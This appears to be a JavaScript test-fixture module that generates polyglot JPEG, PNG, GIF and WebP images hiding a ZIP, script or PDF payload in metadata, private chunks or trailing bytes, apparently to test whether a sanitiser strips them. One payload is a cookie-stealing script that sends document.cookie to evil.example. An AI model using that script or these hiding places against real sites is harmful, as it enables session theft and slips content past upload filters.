// Polyglots: images with a hidden archive, script or document, at every place that the four formats offer. Each is still a
// valid image to every decoder.
import { readFileSync } from "node:fs";
import { crc32 } from "node:zlib";

/** A complete ZIP with one stored file: local header, central directory and its end record. */
function archive() {
  const content = Buffer.from("#!/bin/sh\necho hidden\n");
  const name = Buffer.from("run.sh");
  const head = (signature, size, fields) => {
    const bytes = Buffer.alloc(size);
    bytes.writeUInt32LE(signature, 0);
    for (const [at, value, wide] of fields) wide ? bytes.writeUInt32LE(value, at) : bytes.writeUInt16LE(value, at);
    return bytes;
  };
  const about = (at) => [[at, crc32(content), true], [at + 4, content.length, true], [at + 8, content.length, true], [at + 12, name.length]];
  const local = Buffer.concat([head(0x04034b50, 30, [[4, 10], ...about(14)]), name, content]);
  const entry = Buffer.concat([head(0x02014b50, 46, [[4, 10], [6, 10], ...about(16)]), name]);
  const end = head(0x06054b50, 22, [[8, 1], [10, 1], [12, entry.length, true], [16, local.length, true]]);
  return Buffer.concat([local, entry, end]);
}

/** The payloads, and the marks that show that one survived. */
export const PAYLOADS = {
  zip: { bytes: archive(), marks: ["PK\x03\x04", "PK\x05\x06", "echo hidden"] },
  script: { bytes: Buffer.from("<script>fetch('//evil.example/'+document.cookie)</script>"), marks: ["<script", "evil.example"] },
  pdf: {
    bytes: Buffer.from("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
    marks: ["%PDF-", "/Catalog", "%%EOF"],
  },
};

const picture = (path) => readFileSync(`tests/fixtures/${path}`);
const join = (...parts) => Buffer.concat(parts);
const insert = (bytes, at, ...parts) => join(bytes.subarray(0, at), ...parts, bytes.subarray(at));

// --- JPEG ----------------------------------------------------------------------------------------------

const segment = (marker, content) => join(Buffer.from([0xff, marker, (content.length + 2) >> 8, (content.length + 2) & 255]), content);
const text = (value) => Buffer.from(value, "latin1");
/** Where the first segment with this marker begins. */
function segmentAt(jpeg, marker) {
  let at = 2;
  while (jpeg[at + 1] !== marker) at += 2 + jpeg.readUInt16BE(at + 2);
  return at;
}
/** An ICC profile with only its header and one private tag. */
function profile(hidden) {
  const head = Buffer.alloc(128);
  head.write("mntrRGB XYZ ", 12, "latin1");
  head.write("acsp", 36, "latin1");
  head.writeUInt32BE(0x02400000, 8);
  const tag = Buffer.alloc(16);
  tag.writeUInt32BE(1, 0);
  tag.write("priv", 4, "latin1");
  tag.writeUInt32BE(144, 8);
  tag.writeUInt32BE(hidden.length, 12);
  const all = join(head, tag, hidden);
  all.writeUInt32BE(all.length, 0);
  return all;
}
/** A TIFF whose only entry is a text. */
function exif(hidden) {
  const head = Buffer.alloc(26);
  head.write("II*\0", 0, "latin1");
  head.writeUInt32LE(8, 4);
  head.writeUInt16LE(1, 8);
  head.writeUInt16LE(0x010e, 10);
  head.writeUInt16LE(2, 12);
  head.writeUInt32LE(hidden.length, 14);
  head.writeUInt32LE(26, 18);
  return join(head, hidden);
}

function jpegs(hidden) {
  const jpeg = picture("jpeg/baseline-420.jpg");
  const progressive = picture("jpeg/progressive.jpg");
  // In a scan each 0xff is stuffed, so that the payload contains no marker.
  const stuffed = Buffer.from(hidden.toString("latin1").replaceAll("\xff", "\xff\0"), "latin1");
  return {
    "a comment": insert(jpeg, 2, segment(0xfe, hidden)),
    "a comment between tables": insert(jpeg, segmentAt(jpeg, 0xda), segment(0xfe, hidden)),
    "EXIF": insert(jpeg, 2, segment(0xe1, join(text("Exif\0\0"), exif(hidden)))),
    "XMP": insert(jpeg, 2, segment(0xe1, join(text("http://ns.adobe.com/xap/1.0/\0"), hidden))),
    "IPTC": insert(jpeg, 2, segment(0xed, join(text("Photoshop 3.0\0"), hidden))),
    "a colour profile": insert(jpeg, 2, segment(0xe2, join(text("ICC_PROFILE\0\x01\x01"), profile(hidden)))),
    "a vendor's segment": insert(jpeg, 2, segment(0xef, hidden)),
    "JFIF after its fields": insert(jpeg, 2, segment(0xe0, join(text("JFIF\0\x01\x01\0\0\x01\0\x01\0\0"), hidden))),
    "an unused table": insert(jpeg, segmentAt(jpeg, 0xda), segment(0xdb, join(Buffer.from([3]), Buffer.alloc(64, 1).fill(hidden.subarray(0, 64), 0, Math.min(64, hidden.length))))),
    "between the scan and EOI": insert(jpeg, jpeg.length - 2, stuffed),
    "between the last scan and EOI": insert(progressive, progressive.length - 2, stuffed),
    "after the end": join(jpeg, hidden),
  };
}

// --- PNG -----------------------------------------------------------------------------------------------

function chunk(name, content) {
  const named = join(text(name), content);
  const framed = Buffer.alloc(8);
  framed.writeUInt32BE(content.length, 0);
  framed.writeUInt32BE(crc32(named), 4);
  return join(framed.subarray(0, 4), named, framed.subarray(4));
}
function chunkAt(png, name) {
  let at = 8;
  while (png.toString("latin1", at + 4, at + 8) !== name) at += 12 + png.readUInt32BE(at);
  return at;
}

function pngs(hidden) {
  const png = picture("png/rgb8.png");
  const [data, end] = [chunkAt(png, "IDAT"), chunkAt(png, "IEND")];
  const lastData = png.subarray(data, end);
  const single = chunk("IDAT", lastData.subarray(8, 8 + lastData.readUInt32BE(0)));
  const isSingle = single.length === lastData.length;
  return {
    "a text": insert(png, data, chunk("tEXt", join(text("Comment\0"), hidden))),
    "an international text": insert(png, data, chunk("iTXt", join(text("XML:com.adobe.xmp\0\0\0\0\0"), hidden))),
    "EXIF": insert(png, data, chunk("eXIf", exif(hidden))),
    "a private chunk": insert(png, data, chunk("prVt", hidden)),
    "a private chunk after the pixels": insert(png, end, chunk("prVt", hidden)),
    "after the pixels in their last chunk": isSingle && join(png.subarray(0, data), chunk("IDAT", join(single.subarray(8, -4), hidden)), png.subarray(end)),
    "an extra chunk of pixels": insert(png, end, chunk("IDAT", hidden)),
    "the last chunk": join(png.subarray(0, end), chunk("IEND", hidden)),
    "after the end": join(png, hidden),
  };
}

// --- GIF -----------------------------------------------------------------------------------------------

/** `content` as GIF sub-blocks. */
function blocks(content) {
  const parts = [];
  for (let at = 0; at < content.length; at += 255) {
    const part = content.subarray(at, at + 255);
    parts.push(Buffer.from([part.length]), part);
  }
  return join(...parts, Buffer.from([0]));
}

function gifs(hidden) {
  const gif = picture("gif/still.gif");
  const first = 13 + (gif[10] & 0x80 ? 3 << ((gif[10] & 7) + 1) : 0);
  const version = Buffer.from(gif);
  version.write("GIF89a", 0, "latin1");
  const end = gif.length - 1;
  return {
    "a comment": insert(version, first, Buffer.from([0x21, 0xfe]), blocks(hidden)),
    "an application extension": insert(version, first, Buffer.from([0x21, 0xff, 11]), text("HIDDENHERE1"), blocks(hidden)),
    "a plain text extension": insert(version, first, Buffer.from([0x21, 0x01, 12]), Buffer.alloc(12), blocks(hidden)),
    "an unknown extension": insert(version, first, Buffer.from([0x21, 0x77]), blocks(hidden)),
    // Before the empty sub-block that ends the image data.
    "after the end code of the pixels": insert(gif, end - 1, blocks(hidden).subarray(0, -1)),
    "a comment after the image": insert(version, end, Buffer.from([0x21, 0xfe]), blocks(hidden)),
    "after the end": join(gif, hidden),
  };
}

// --- WebP ----------------------------------------------------------------------------------------------

function riff(name, content) {
  const head = Buffer.alloc(8);
  head.write(name, 0, "latin1");
  head.writeUInt32LE(content.length, 4);
  return join(head, content, Buffer.alloc(content.length & 1));
}
/** The same file with its RIFF size corrected. */
function resized(webp) {
  const bytes = Buffer.from(webp);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  return bytes;
}
/** The same file with `hidden` appended to its only chunk of pixels. */
function longer(webp, hidden) {
  const size = webp.readUInt32LE(16);
  const name = webp.toString("latin1", 12, 16);
  return resized(join(webp.subarray(0, 12), riff(name, join(webp.subarray(20, 20 + size), hidden))));
}

function webps(hidden) {
  const lossy = picture("webp/lossy.webp");
  const lossless = picture("webp/lossless.webp");
  const extended = picture("webp/lossy-alpha.webp");
  return {
    "an unknown chunk": resized(join(lossy, riff("HIDE", hidden))),
    "EXIF": resized(join(extended, riff("EXIF", exif(hidden)))),
    "XMP": resized(join(extended, riff("XMP ", hidden))),
    "after lossy pixels in their chunk": longer(lossy, hidden),
    "after lossless pixels in their chunk": longer(lossless, hidden),
    "an unknown chunk before the pixels": resized(insert(extended, 30, riff("HIDE", hidden))),
    "after the end": join(lossless, hidden),
  };
}

/** Every polyglot with this payload: `{type, place, bytes}`. */
export function polyglots(hidden) {
  const all = { "image/jpeg": jpegs(hidden), "image/png": pngs(hidden), "image/gif": gifs(hidden), "image/webp": webps(hidden) };
  return Object.entries(all).flatMap(([type, places]) => Object.entries(places).map(([place, bytes]) => ({ type, place, bytes })));
}
